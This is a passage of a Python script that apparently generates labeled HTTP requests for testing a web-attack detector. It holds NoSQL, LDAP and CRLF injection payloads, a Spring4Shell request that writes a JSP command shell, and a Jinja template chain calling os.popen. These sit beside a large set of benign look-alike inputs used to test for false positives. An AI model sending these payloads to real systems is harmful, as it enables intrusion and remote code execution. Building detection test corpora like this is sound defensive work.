    return out


# ----------------------------------------------------------------------------- nosqli

NOSQL_CTX = dict(host="api.example.org", path="/api/v1/login")


def nosqli_cases(rng):
    return [
        C("json-op", {"username": "admin", "password": {"$ne": None}}, special="nosql_json"),
        C("bracket", "username=admin&password[$ne]=x", special="nosql_query"),
        C("bracket+urlenc", "username=admin&password%5B%24ne%5D=x", special="nosql_form"),
        C("jsonuni", {"username": "admin", "password": {"$ne": None}}, special="nosql_json", enc="jsonuni"),
        C("nested", {"auth": {"credentials": {"user": "admin", "pass": {"$ne": ""}}}, "remember": True}, special="nosql_json"),
        C("cookie-json", 'j:{"user":"admin","pass":{"$ne":null}}', special="nosql_cookie"),
        C("json-op", {"username": {"$nin": [""]}, "password": {"$ne": None}}, special="nosql_json"),
        C("json-op", {"filter": {"$where": "sleep(1000)"}}, special="nosql_json"),
        C("bracket", "filter[$where]=sleep(1000)", special="nosql_query"),
        C("jsonuni", {"filter": {"$where": "sleep(1000)"}}, special="nosql_json", enc="jsonuni"),
        C("altsyntax", {"filter": {"$where": "function(){var d=new Date();do{var c=new Date();}while(c-d<1000);return true;}"}}, special="nosql_json"),
        C("js-inject", "username=admin'||sleep(1000)||'&password=x", special="nosql_form"),
        C("bracket", "username[$gt]=&password[$gt]=", special="nosql_form"),
        C("json-op", {"username": {"$gt": ""}, "password": {"$gt": ""}}, special="nosql_json"),
        C("urlenc", "username%5B%24gt%5D=%20&password%5B%24gt%5D=%20", special="nosql_query"),
        C("bracket", "username[$regex]=^adm&password[$ne]=1", special="nosql_query"),
        C("json-op", {"username": {"$regex": ".*", "$options": "si"}, "password": {"$ne": ""}}, special="nosql_json"),
        C("jsonuni", {"username": {"$regex": "^adm"}, "password": {"$ne": ""}}, special="nosql_json", enc="jsonuni"),
        C("altsyntax", {"$expr": {"$function": {"body": "function(){sleep(1000);return true}", "args": [], "lang": "js"}}}, special="nosql_json"),
        C("mp-field", "", special="nosql_multipart"),
    ]


# ----------------------------------------------------------------------------- ldapi / crlf

LDAP = [
    ("*)(uid=*))(|(uid=*", [
        C("case", "*)(UiD=*))(|(uId=*"),
        C("urlenc", "*)(uid=*))(|(uid=*", enc="urlenc", places=["query", "form"]),
        C("dblurl", "*)(uid=*))(|(uid=*", enc="dblurl", places=["query"]),
        C("uenc", "*)(uid=*))(|(uid=*", enc="uenc", places=["query", "form"]),
        C("jsonuni", "*)(uid=*))(|(uid=*", enc="jsonuni", places=["json"]),
    ]),
    ("admin)(&)", [
        C("nullbyte", "admin)(&)\x00", places=["query", "form"]),
        C("urlenc", "admin)(&)", enc="urlenc", places=["query", "form"]),
        C("xmlent", "admin)(&)", enc="xmlent", places=["xml"]),
    ]),
    ("*)(|(objectClass=*)", [
        C("case", "*)(|(ObJeCtClAsS=*)"),
        C("altsyntax", "*)(|(objectclass=*)(cn=*)"),
        C("urlenc", "*)(|(objectClass=*)", enc="urlenc", places=["query", "path"]),
    ]),
    ("admin*)((|userPassword=*)", [
        C("case", "admin*)((|UsErPaSsWoRd=*)"),
        C("urlenc", "admin*)((|userPassword=*)", enc="urlenc", places=["query", "form"]),
    ]),
    ("*)(&(objectClass=user)(description=*", [
        C("case", "*)(&(OBJECTCLASS=user)(DeScRiPtIoN=*"),
    ]),
]

CRLF = [
    ("\r\nSet-Cookie: a=b", [
        C("lf-only", "\nSet-Cookie: a=b"),
        C("case", "\r\nsEt-CoOkIe: session=attacker"),
        C("altws", "\r\nSet-Cookie:a=b"),
        C("dblurl", "\r\nSet-Cookie: a=b", enc="dblurl", places=["query", "path"]),
        C("uenc", "\r\nSet-Cookie: a=b", enc="uenc", places=["query"]),
        C("urlenc", "\r\nSet-Cookie: a=b", enc="urlenc", places=["query", "form", "path"]),
        C("unicode-crlf", "\u560a\u560dSet-Cookie: a=b", places=["query", "path"]),
        C("jsonuni", "\r\nSet-Cookie: a=b", enc="jsonuni", places=["json"]),
    ]),
    ("\r\nLocation: http://evil.example/", [
        C("lf-only", "\nLocation: http://evil.example/"),
        C("urlenc", "\r\nLocation: http://evil.example/", enc="urlenc", places=["query", "path"]),
        C("case", "\r\nlOcAtIoN: http://evil.example/"),
    ]),
    ("\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<script>alert(1)</script>", [
        C("lf-only", "\nContent-Length: 0\n\nHTTP/1.1 200 OK\nContent-Type: text/html\nContent-Length: 25\n\n<script>alert(1)</script>"),
        C("dblurl", "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<script>alert(1)</script>", enc="dblurl", places=["query"]),
        C("splitting", "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<script>alert(1)</script>"),
    ]),
    ("\r\nX-XSS-Protection: 0\r\n\r\n<svg onload=alert(1)>", [
        C("urlenc", "\r\nX-XSS-Protection: 0\r\n\r\n<svg onload=alert(1)>", enc="urlenc", places=["query", "path"]),
        C("lf-only", "\nX-XSS-Protection: 0\n\n<svg onload=alert(1)>"),
    ]),
    ("\r\nAccess-Control-Allow-Origin: https://evil.example", [
        C("uenc", "\r\nAccess-Control-Allow-Origin: https://evil.example", enc="uenc", places=["query"]),
    ]),
]


def ldapi_cases(rng):
    out = []
    for _canon, variants in LDAP:
        out += [dict(c) for c in variants]
    out.append(C("mp-boundary", "*)(uid=*))(|(uid=*", special="mp_boundary"))
    out.append(C("hpp-last", ["jdoe", "*)(|(objectClass=*)"], special="hpp", params=["user"]))
    return out


def crlf_cases(rng):
    out = []
    pre = CTX["crlf"]["prefix"]
    n = 0
    for _canon, variants in CRLF:
        for c in variants:
            c = dict(c)
            c["value"] = pick(pre, n) + c["value"]
            c["nopath_prefix"] = True
            n += 1
            out.append(c)
    out.append(C("mp-field", "en\r\nSet-Cookie: a=b", places=["multipart"]))
    return out


# ----------------------------------------------------------------------------- specials

MP_VARIANT = itertools.count()


def special(cat, c, k):
    """Requests that need their own framing. Returns a request dict."""
    s = c["special"]
    ctx = CTX.get(cat, CTX["sqli"])
    host = ctx["host"]
    path = pick(ctx["paths"], k)
    v = c["value"]
    if s in ("mp_filename", "mp_filenamestar"):
        b = pick(BOUNDARIES, k + 1)
        if s == "mp_filename":
            fn = v.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")
            disp = 'name="file"; filename="%s"' % fn
        else:
            disp = "name=\"file\"; filename=\"upload.bin\"; filename*=UTF-8''%s" % quote(v, safe="")
        body = multipart([('name="description"', "profile picture", []),
                          (disp, "\x89PNG-placeholder-bytes", ["Content-Type: image/png"])], b)
        return request("POST", pick(["/upload", "/api/v1/files", "/profile/avatar"], k), host, body=body,
                       ctype="multipart/form-data; boundary=" + b, k=k)
    if s in ("mp_upload", "mp_upload_star"):
        fname, content, ftype = v
        b = pick(BOUNDARIES, k)
        if s == "mp_upload":
            disp = 'name="avatar"; filename="%s"' % fname
        else:
            disp = "name=\"avatar\"; filename=\"avatar.png\"; filename*=UTF-8''%s" % quote(fname)
        body = multipart([('name="user_id"', "1042", []), (disp, content, ["Content-Type: " + ftype])], b)
        return request("POST", "/wp-admin/async-upload.php" if k % 2 else "/profile/avatar.php", CTX["php"]["host"],
                       body=body, ctype="multipart/form-data; boundary=" + b, k=k)
    if s == "mp_upload_xml":
        b = pick(BOUNDARIES, k)
        body = multipart([('name="title"', "logo", []), ('name="image"; filename="logo.svg"', v, ["Content-Type: image/svg+xml"])], b)
        return request("POST", "/media/upload", CTX["xxe"]["host"], body=body, ctype="multipart/form-data; boundary=" + b, k=k)
    if s == "mp_boundary":
        variants = [
            ('"----=_Part_0_1:odd boundary=x"', "----=_Part_0_1:odd boundary=x", 'form-data; name="%s"'),
            ("\"'()+_,-./:=?BoUnDaRy\"", "'()+_,-./:=?BoUnDaRy", "form-data;name=%s"),
            ("=" * 8 + "z" * 62, "=" * 8 + "z" * 62, 'form-data; NAME="%s"'),
            ("   spaced-boundary-1", "spaced-boundary-1", 'form-data;   name="%s"'),
        ]
        hdr, b, dispfmt = pick(variants, next(MP_VARIANT))
        param = pick(ctx["params"], k)
        body = ("preamble text --%s-fake\r\n" % b + "--" + b + "\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n1\r\n"
                + "--" + b + "\r\nContent-Disposition: " + (dispfmt % param) + "\r\n\r\n" + v + "\r\n--" + b + "--\r\nepilogue\r\n")
        return request("POST", path, host, body=body, ctype="multipart/form-data; boundary=" + hdr, k=k)
    if s in ("hpp", "hpp-form"):
        param = c["params"][0]
        if s == "hpp":
            q = "&".join("%s=%s" % (param, enc_url(piece, None, "query")) for piece in v)
            return request("GET", path + "?" + q, host, k=k)
        body = "&".join("%s=%s" % (param, enc_url(piece, None, "form")) for piece in v)
        return request("POST", path, host, body=body, ctype="application/x-www-form-urlencoded", k=k)
    if s == "raw_a0":
        uri = b"/products?id=" + v.replace(" ", "\xa0").encode("latin-1").replace(b",", b"%2C")
        return raw_request("GET", uri, host, [], k=k)
    if s == "raw_overlong":
        uri = b"/download?file=" + v.encode().replace(b"/", b"\xc0\xaf")
        return raw_request("GET", uri, host, [], k=k)
    if s == "raw_mp_lf":
        b = "----WebKitFormBoundaryLfOnly42"
        body = multipart([('name="sort"', "name", []), ('name="%s"' % pick(ctx["params"], k), v, [])], b, nl="\n")
        return raw_request("POST", path, host, [("Content-Type", "multipart/form-data; boundary=" + b)],
                           body=body.encode(), k=k)
    if s == "raw_serial":
        return raw_request("POST", "/invoker/JMXInvokerServlet", CTX["java"]["host"],
                           [("Content-Type", "application/x-java-serialized-object")], body=v, k=k)
    if s == "json_raw":
        return request("POST", pick(["/api/v1/events", "/api/search", "/api/v1/import"], k), CTX["java"]["host"],
                       body=v, ctype="application/json", k=k)
    if s == "xml_raw":
        h = CTX["xxe"]["host"] if cat == "xxe" else CTX["java"]["host"]
        p = c.get("path") or (pick(CTX["xxe"]["paths"], k) if cat == "xxe" else "/rest/orders/import")
        extra = [["SOAPAction", '""']] if "soapenv" in v else []
        return request("POST", p, h, headers=extra, body=v, ctype=c.get("ctype") or pick(["application/xml", "text/xml"], k), k=k)
    if s in ("raw_utf16le", "raw_utf16be"):
        if s == "raw_utf16le":
            data = b"\xff\xfe" + v.encode("utf-16-le")
            ct = "application/xml"
        else:
            data = v.encode("utf-16-be")
            ct = "text/xml; charset=utf-16be"
        return raw_request("POST", "/api/import", CTX["xxe"]["host"], [("Content-Type", ct)], body=data, k=k)
    if s == "ognl_ctype":
        return request("POST", "/struts2-showcase/index.action", CTX["java"]["host"], body="", ctype=v, k=k)
    if s == "spring4shell":
        fields = [
            ("class.module.classLoader.resources.context.parent.pipeline.first.pattern",
             "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }"),
            ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
            ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
            ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
            ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", ""),
        ]
        p = c["places"][0]
        if p == "form":
            body = "&".join("%s=%s" % (n, quote_plus(val)) for n, val in fields)
            return request("POST", "/app/greeting", CTX["java"]["host"], headers=[["suffix", "%>//"], ["c1", "Runtime"], ["c2", "<%"]],
                           body=body, ctype="application/x-www-form-urlencoded", k=k)
        if p == "query":
            q = "&".join("%s=%s" % (pct_all(n) if i % 2 == 0 else n, quote(val, safe="")) for i, (n, val) in enumerate(fields))
            return request("GET", "/app/greeting?" + q, CTX["java"]["host"], headers=[["c1", "Runtime"], ["c2", "<%"]], k=k)
        b = pick(BOUNDARIES, k)
        body = multipart([('name="%s"' % n, val, []) for n, val in fields], b)
        return request("POST", "/app/greeting", CTX["java"]["host"], body=body, ctype="multipart/form-data; boundary=" + b, k=k)
    if s == "jinja_args":
        q = ("name=" + quote("{{lipsum|attr(request.args.g)|attr(request.args.gi)(request.args.m)|attr(request.args.p)(request.args.c)|attr('read')()}}", safe="")
             + "&g=__globals__&gi=__getitem__&m=os&p=popen&c=id")
        return request("GET", "/greeting?" + q, CTX["ssti"]["host"], k=k)
    if s == "nosql_json":
        body = json.dumps(v, separators=(",", ":") if k % 2 else (", ", ": "))
        if c.get("enc") == "jsonuni":
            body = re.sub(r'"\$(\w)', lambda m: '"\\u0024' + m.group(1), body)
            body = body.replace("sleep", "\\u0073leep")
        return request("POST", pick(["/api/v1/login", "/api/v1/users/search", "/graphql-lite/find"], k), NOSQL_CTX["host"],
                       body=body, ctype="application/json", k=k)
    if s == "nosql_query":
        return request("GET", pick(["/api/v1/login", "/api/v1/users"], k) + "?" + v, NOSQL_CTX["host"], k=k)
    if s == "nosql_form":
        return request("POST", "/login", NOSQL_CTX["host"], body=v, ctype="application/x-www-form-urlencoded", k=k)
    if s == "nosql_cookie":
        return request("GET", "/account", NOSQL_CTX["host"], headers=[["Cookie", "session=" + quote(v, safe=":") + "; theme=dark"]], k=k)
    if s == "nosql_multipart":
        b = pick(BOUNDARIES, k)
        body = multipart([('name="username"', "admin", []), ('name="password[$ne]"', "x", [])], b)
        return request("POST", "/login", NOSQL_CTX["host"], body=body, ctype="multipart/form-data; boundary=" + b, k=k)
    raise ValueError(s)


EXTRA_ENCS = {"url": ["urlenc", "dblurl", "uenc"], "json": ["jsonuni"], "xml": ["xmlent"]}


def attacks():
    rng = random.Random(SEED)
    groups = [
        ("sqli", sqli_cases(rng)), ("xss", xss_cases(rng)), ("lfi", lfi_cases(rng)), ("rfi", rfi_cases(rng)),
        ("rce", rce_cases(rng)), ("php", php_cases(rng)), ("java", java_cases(rng)), ("ssrf", ssrf_cases(rng)),
        ("xxe", xxe_cases(rng)), ("ssti", ssti_cases(rng)), ("nosqli", nosqli_cases(rng)), ("ldapi", ldapi_cases(rng)),
        ("crlf", crlf_cases(rng)),
    ]
    n = 0
    for cat, cases in groups:
        rot = 0
        for c in cases:
            n += 1
            tech = c["tech"]
            if c.get("special"):
                req = special(cat, c, n)
                yield cat, tech, n, req
                continue
            ctxname = c.get("ctx", cat)
            places = c.get("places") or CLASS_PLACES.get(ctxname) or CLASS_PLACES[cat]
            req = None
            for attempt in range(len(places)):
                p = places[(rot + attempt) % len(places)]
                enc = c.get("enc")
                t = tech
                if enc is None and c.get("combine", True) and not c.get("wire") and rng.random() < 0.25:
                    kind = "url" if p in ("query", "form", "cookie") else p
                    if kind in EXTRA_ENCS and "+" not in tech:
                        enc = rng.choice(EXTRA_ENCS[kind])
                        t = tech + "+" + enc
                req = place(ctxname, p, c["value"], enc, n, c)
                if req is None and enc and enc != c.get("enc"):
                    enc, t = c.get("enc"), tech
                    req = place(ctxname, p, c["value"], enc, n, c)
                if req is not None:
                    tech = t
                    break
            rot += 1
            if req is None:
                raise SystemExit("no placement for %s %r" % (cat, c))
            yield cat, tech, n, req


# ----------------------------------------------------------------------------- benign

BENIGN_CTX = dict(host="www.example.com")

SEARCH = [
    "select a union rep", "drop-off times", "order by price", "union square hotels", "how to delete my account",
    "insert coin arcade machine", "update firmware on router", "where is my order", "select all that apply meaning",
    "drop table tennis net", "table for 2 from 7pm", "1 or 2 bedroom apartments", "and/or in excel formulas",
    "best sleep tracker 2025", "script writing course", "alert sound settings", "javascript tutorial for beginners",
    "passwd command forgotten password help", "etc. abbreviation usage", "having fun union jobs", "exec summary template",
    "declare independence essay", "null hypothesis example", "count of monte cristo", "group by region pivot",
    "cat toys under $20", "ping pong tables", "curl hair without heat", "shell beach campsite", "python select module",
    "user manual pdf", "admin assistant jobs berlin", "char siu recipe", "load balancer vs reverse proxy", "sleep 5 hours enough?",
    "1=1 meeting room", "case when in spreadsheet", "from A to B", "tables and chairs union station", "truncate vs round",
]
NAMES = [
    "O'Brien", "D'Angelo", "Miles O'Neil", "Youssou N'Dour", "L'Oréal Paris", "Ta-Nehisi Coates", "Jean-Luc D'Arcy",
    "Mary-Kate O'Connor", "Dell'Acqua", "Rock 'n' Roll Diner", "Ng'ang'a Kamau", "Sinéad O'Sullivan", "Zoë d'Aubigny",
    "Bartholomew O'Malley III", "Ana María López-Ruiz", "'Abdu'l-Bahá", "Ø. Sørensen", "José Ñúñez", "Björk Guðmundsdóttir",
    "Anne-Marie D'Souza",
]
MATH = [
    "x<y", "a && b", "1/2", "3 > 2", "a<b and c>d", "50% off", "C++ & C#", "<3", "2^10 = 1024", "a = b + c;",
    "5 * (3 + 2)", "-- end of note --", "#hashtag #summer", "@mention the team", "[x] done, [ ] todo", "=SUM(A1:A3)",
    "$100 - $20 = $80", "100%", "R&D budget", "AT&T store", "\"quoted\" text", "if (x > 0) then keep", "min(3, 7)",
    "temperatures -5..+3 °C", "ratio 16:9", "~/notes", "e = mc^2", "p < 0.05", "size: 10x20 cm", "A/B test #42",
    "1 + 1 = 2", "a || b", "3/4 cup sugar; 1/2 tsp salt", "Q&A session @ 3pm", "Use <br> for line breaks? no.",
]
URLS = [
    "https://hooks.example.com/incoming/T012/B034/abc123", "https://cdn.example.net/img/products/a-100.png?w=200&h=100",
    "https://t.example.com/c?u=https%3A%2F%2Fshop.example.com%2Fp%3Fid%3D5%26ref%3Dmail",
    "https://www.example.org/blog/2025/05/why-we-moved?utm_source=newsletter&utm_medium=email",
    "https://login.example.com/callback", "https://example.com/return?to=%252Fdashboard%253Ftab%253Dbilling",
    "https://images.example.org/u/8812/avatar.jpg", "https://maps.example.com/?q=52.5200,13.4050",
    "https://docs.example.com/api/v2/reference#section-3.1", "https://example.net/files/report%20Q3.pdf",
    "https://partner.example.com/webhooks/orders?sig=3f9a1c", "mailto:support@example.com?subject=Order%20123",
    "https://www.example.com/search?q=o%27brien", "/account/settings?tab=security",
    "https://sub.domain.example.co.uk:8443/path;v=2?x=1", "https://example.com/#/app/reports", "tel:+1-555-0100",
    "https://example.com/products/caf%C3%A9-latte", "https://feeds.example.org/rss.xml",
    "https://example.com/oauth/authorize?client_id=web&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&state=xyz",
    "https://cdn.example.net/fonts/Inter-Regular.woff2", "https://example.com/r/aHR0cHM6Ly9leGFtcGxlLmNvbS94",
]
ENCODED = [
    b64('{"user":42,"exp":1767225600,"scope":"read"}'),
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." + base64.urlsafe_b64encode(b'{"sub":"1234567890","name":"Jane Doe","iat":1716239022}').decode().rstrip("=") + ".SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "%2Fdashboard%3Ftab%3Dbilling", "%252Faccount%252Fsettings", "Jos&eacute; &amp; Mar&iacute;a", "Caf&#233; M&#252;ller",
    b64("Hello, world! This is a plain note."), "dGVzdA==", "AQIDBAUGBwg=", "a1b2c3d4e5f6a7b8c9d0",
    "H4sIAAAAAAAAA6tWykvMTVWyUkpKLEpVqgUA0sD9JBEAAAA=", "Zm9vYmFyYmF6", "R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==",
    "state=af0ifjsldkj&nonce=n-0S6_WzA2Mj", "3q2+7w==", "%E6%9D%B1%E4%BA%AC", "AT&amp;T &lt;business&gt;",
    "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=", "v=1&t=pageview&dl=https%3A%2F%2Fexample.com%2F",
]
UNICODE = [
    "東京都渋谷区神南1-2-3", "北京市朝阳区建国路88号", "서울특별시 강남구 테헤란로 152", "مرحبا بالعالم", "שלום עולם",
    "Привет, мир! Как дела?", "Καλημέρα κόσμε", "नमस्ते दुनिया", "สวัสดีชาวโลก", "Xin chào thế giới", "👍🏽 great job 🎉",
    "ＡＢＣ株式会社", "（株）サンプル商事", "１２３－４５６７", "【セール】５０％ＯＦＦ！", "＜重要＞お知らせ", "ｶﾀｶﾅ ﾃｽﾄ",
    "Straße & Söhne GmbH", "Ærøskøbing", "İstanbul Çarşı", "Łódź, Polska", "Ελληνικά: «λέξη»", "日本語のテキスト、句読点。",
    "中文：你好，世界！", "Café — crème brûlée", "naïve résumé façade", "ﬁnance ﬂow", "Ｒｏｏｍ ３０２", "Zürich HB → Genève",
    "¿Qué tal? ¡Muy bien!", "ＦＡＱ：よくある質問",
]
FILES = [
    "report-2025.v2.final.pdf", "archive.tar.gz", "photo_2025-01-01 12.30.45.jpg", "résumé (1).docx", "notes...draft.txt",
    "Q3_results-FINAL_v3.xlsx", "my.config.backup.json", "IMG_0042.HEIC", "budget 2025 (copy).ods", "v1.2.3-release-notes.md",
    "data.2025-06-01.csv", "logo@2x.png", "invoice#1042.pdf", "team-photo_[edited].jpeg", "song - artist (live).mp3",
    "スクリーンショット 2025-05-01.png", "contract_signed.pdf.sig", "index.d.ts", "Makefile", ".editorconfig",
]
PATHS = [
    "reports/2025/q3.pdf", "C:\\Users\\Public\\Documents\\a.docx", "./src/main.rs", "docs/guide/intro.md",
    "D:\\Projects\\Acme\\design\\logo-final.ai", "/home/alice/workspace/notes.txt", "shared/Marketing/2025/Campaign Plan.pptx",
    "C:\\Users\\jdoe\\OneDrive\\Desktop\\todo.txt", "assets/img/icons/arrow-left.svg", "backup/2025-06-01/db.sql.gz",
    "projects/alpha/README", "Photos/Holiday 2024/IMG_1234.jpg", "\\\\fileserver01\\team\\plans\\q4.xlsx", "src/components/Header.tsx",
    "Music/Jazz/Miles Davis - So What.flac",
]
SHELLISH = [
    "--help", "a|b", "-v --verbose", "cmd+shift+p", "key=value; other=thing", "yes/no", "Tab | Name | Qty", "ls", "--dry-run",
    "echo chamber (book)", "pipe | separated | values", "$HOME is where the heart is", "~user", "a > b > c", "npm install --save-dev",
    "&& more", "x;y;z", "make && make install", "Sleep (album)", "id card renewal",
]
TEMPLATES = [
    "Hello {name}, your order {order_id} has shipped.", "Hi {{ firstName }}, we miss you!",
    "Dear {{ customer.first_name }}, your invoice {{ invoice.number }} is ready.", "Total: {amount} {currency}",
    "{{ first_name | default: 'friend' }}, 20% off today", "Welcome, %NAME%!", "Use {0} and {1} as placeholders",
    "Reply with {{code}} to confirm", "Price: ${price} per month", "#{order_number} confirmed", "[[unsubscribe_link]]",
"{% raw %}literal braces{% endraw %}", "Your code is {{ otp }}.", "{greeting}, {first}!",
]
PROSE = [
    "I can't believe it's already June — time flies!", "Great product; would buy again. 5/5", "The \"blue\" one doesn't fit, can I swap it?",
    "Please call me back after 5pm (I'm in a meeting until then).", "Is the 10% discount applicable to sale items?",
    "We'd like to book a table for 4 on Friday at 8.", "My password reset email never arrived, please help.",
    "The select menu on the checkout page is broken on Safari.", "Union members get a discount, right?",
    "Delivery was late; the drop-off point was wrong.", "Can you update my address to 12 O'Connell St?",
    "Our script for the school play is due Monday.", "I ordered 2 but received 1 — order #55123.",
    "Loved the show! The alert on my phone reminded me just in time.", "Where can I find the user manual for model X-200?",
    "We were told to 'select' a plan before checkout, but nothing happened.", "Not sure if I should choose 1/2 or 3/4 size.",
    "Shipping to Zürich takes how long?", "I'm allergic to nuts & dairy — is this safe?", "Thanks!! :) <3",
]
COOKIES = [
    ("prefs", quote('{"theme":"dark","lang":"en","tz":"Europe/Berlin"}', safe="")),
    ("cart", b64('{"items":[{"sku":"A-100","qty":2}],"coupon":null}')),
    ("_ga", "GA1.2.1234567890.1716239022"), ("consent", "necessary:1|analytics:0|marketing:0"),
    ("recently_viewed", "1042%2C1043%2C1099"), ("session", "eyJ1aWQiOjQyfQ.ZmZmZmZm.a1b2c3"),
    ("locale", "ja-JP"), ("last_search", quote("order by price", safe="")), ("ab_test", "checkout_v2=B"),
    ("tz", "America%2FNew_York"), ("display_name", quote("Seán O'Brien", safe="")), ("flash", "Saved%21"),
    ("sidebar", "collapsed"), ("csrftoken", "Vt3x9K2pQ8rL1mN4"), ("utm", quote("source=news&medium=email", safe="")),
]
UA_EXTRA = [
    "curl/8.5.0", "python-requests/2.31.0", "Googlebot/2.1 (+http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "PostmanRuntime/7.37.3",
    "okhttp/4.12.0", "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)", "Wget/1.21.4",
    "AcmeDesktopSync/3.4.1 (Windows NT 10.0; x64)", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
]

DEV = [
    "SELECT id, name FROM customers WHERE created_at > NOW() - INTERVAL '7 days' ORDER BY name;",
    "SELECT a.id, b.email FROM orders a LEFT JOIN users b ON a.user_id = b.id WHERE b.email LIKE '%@example.com';",
    "UPDATE settings SET value = 'on' WHERE key = 'beta_features';",
    "SELECT region, SUM(total) AS revenue FROM sales GROUP BY region\nUNION ALL\nSELECT 'total', SUM(total) FROM sales;",
    "CREATE INDEX idx_orders_user ON orders(user_id);", "DELETE FROM sessions WHERE expires_at < now();",
    "INSERT INTO tags (name) VALUES ('rust'), ('go'), ('python');",
    "WITH recent AS (\n  SELECT * FROM events WHERE ts > now() - interval '1 day'\n)\nSELECT type, count(*) FROM recent GROUP BY type;",
    "import os\n\nfor name in os.listdir(base):\n    print(os.path.join(base, name))",
    "const el = document.getElementById('app');\nel.addEventListener('click', () => console.log('clicked'));",
    "fetch('/api/items?page=2').then(r => r.json()).then(data => render(data));",
    "find . -name '*.log' -mtime +7 -delete", "tar -czf backup.tar.gz ./data && ls -lh backup.tar.gz",
    "grep -rn \"TODO\" src/ | wc -l", "curl -s https://api.example.com/v1/status | jq .",
    "<?php echo htmlspecialchars($user['name'], ENT_QUOTES, 'UTF-8'); ?>",
    "<div class=\"card\"><img src=\"/img/logo.png\" alt=\"Logo\"></div>",
    "<a href=\"https://docs.example.com/start\">Getting started</a>",
    "List<String> names = new ArrayList<>();\nnames.add(\"alice\");",
    "{% for item in items %}<li>{{ item.name }}</li>{% endfor %}",
    "fn main() {\n    let v: Vec<u32> = (1..=10).collect();\n    println!(\"{:?}\", v);\n}",
    "func handler(w http.ResponseWriter, r *http.Request) {\n\tfmt.Fprintf(w, \"ok\")\n}",
    "services:\n  web:\n    image: nginx:1.27\n    ports:\n      - \"8080:80\"",
    "FROM python:3.12-slim\nCOPY . /app\nRUN pip install -r requirements.txt\nCMD [\"python\", \"app.py\"]",
    "location /api/ {\n    proxy_pass http://127.0.0.1:8080;\n    proxy_set_header Host $host;\n}",
    "db.users.find({ age: { $gt: 30 } }).sort({ name: 1 })",
    "(&(objectClass=person)(mail=*@example.com))",
    "2025-03-01 12:00:01 ERROR [main] NullPointerException at com.example.App.run(App.java:42)",
    "SELECT COUNT(*) FROM information_schema.columns WHERE table_name = 'orders';",
    "git log --oneline --graph | head -20",
    "if [ -f ~/.bashrc ]; then\n  source ~/.bashrc\nfi",
    "try:\n    value = int(raw)\nexcept ValueError:\n    value = 0",
    "ALTER TABLE users ADD COLUMN last_login TIMESTAMP NULL;",
    "const sum = (a, b) => a + b; // returns a + b",
    "df = pd.read_csv('data.csv')\ndf.groupby('region')['sales'].sum()",
]


def benign_place(theme, v, p, k, field):
    host = pick(["www.example.com", "shop.example.com", "app.example.org", "portal.example.net", "mail.example.net"], k)
    ppath = {
        "search": ["/search", "/api/v1/search", "/catalog"], "names": ["/account/profile", "/api/v1/contacts", "/checkout/address"],
        "math": ["/notes", "/api/v1/comments", "/tickets/new"], "urls": ["/api/v1/webhooks", "/profile/links", "/integrations/callback"],
        "encoded": ["/auth/continue", "/api/v1/session", "/sso/return"], "unicode": ["/api/v1/addresses", "/messages", "/profile"],
        "files": ["/api/v1/files", "/documents/rename", "/upload/meta"], "paths": ["/api/v2/sync/items", "/workspace/open", "/api/v1/share"],
        "shellish": ["/sheets/cells", "/api/v1/notes", "/search"], "templates": ["/marketing/templates", "/api/v1/campaigns", "/emails/draft"],
        "prose": ["/reviews", "/support/contact", "/api/v1/feedback"],
    }[theme]
    path = pick(ppath, k)
    if p == "query":
        return request("GET", "%s?%s=%s&page=%d" % (path, field, enc_url(v, None, "query"), k % 5 + 1), host, k=k)
    if p == "form":
        body = "%s=%s&submit=Save" % (field, quote_plus(v))
        return request("POST", path, host, body=body, ctype="application/x-www-form-urlencoded", k=k)
    if p == "json":
        mark = "ZZV"
        t = k % 3
        if t == 0:
            obj = {field: mark, "source": "web", "version": 2}
        elif t == 1:
            obj = {"data": {"attributes": {field: mark, "updated": "2025-06-01T10:00:00Z"}}}
        else:
            obj = {"record": {"fields": [{"name": field, "value": mark}], "owner": {"id": 42}}}
        body = json.dumps(obj, ensure_ascii=bool(k % 2)).replace('"%s"' % mark, json.dumps(v, ensure_ascii=bool(k % 2)))
        return request("POST", path, host, body=body, ctype="application/json", k=k)
    if p == "xml":
        body = '<?xml version="1.0" encoding="UTF-8"?>\n<update><%s>%s</%s><ts>2025-06-01</ts></update>' % (field, xml_text(v, None), field)
        return request("POST", path, host, body=body, ctype="application/xml", k=k)
    if p == "multipart":
        b = pick(BOUNDARIES, k)
        parts = [('name="%s"' % field, v, [])]
        if theme == "files":
            parts = [('name="file"; filename="%s"' % v.replace('"', "%22"), "sample content\n", ["Content-Type: application/octet-stream"])]
        body = multipart([('name="_token"', "b7e1c2d3", [])] + parts, b)
        return request("POST", path, host, body=body, ctype="multipart/form-data; boundary=" + b, k=k)
    if p == "cookie":
        return request("GET", path, host, headers=[["Cookie", "sid=%s; %s=%s" % (SESSION, field, enc_url(v, None, "cookie"))]], k=k)
    if p == "header":
        hname = pick(["Referer", "X-Client-Note", "X-Display-Name"], k)
        if hname == "Referer":
            hv = "https://%s/search?q=%s" % (host, quote_plus(v))
        elif header_ok(v):
            hv = v
        else:
